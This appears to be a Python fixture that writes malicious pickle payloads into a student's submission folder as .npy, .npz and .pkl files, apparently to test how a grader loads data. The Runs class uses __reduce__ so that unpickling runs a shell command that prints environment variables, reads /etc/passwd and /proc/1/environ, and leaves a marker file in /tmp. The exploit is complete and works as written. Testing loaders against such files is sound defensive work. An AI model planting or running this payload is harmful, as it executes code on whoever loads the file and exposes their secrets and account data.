import pickle
import subprocess

import numpy as np


class Runs:
    def __reduce__(self):
        command = "env; cat /etc/passwd /proc/1/environ; touch /tmp/left-by-an-attack-of-a-pickle"
        return subprocess.getoutput, (command,)


def make(students, identity):
    folder = students / identity
    np.save(folder / "data.npy", np.array([Runs()], dtype=object), allow_pickle=True)
    np.savez(folder / "data.npz", a=np.array([Runs()], dtype=object))
    (folder / "data.pkl").write_bytes(pickle.dumps(Runs()))
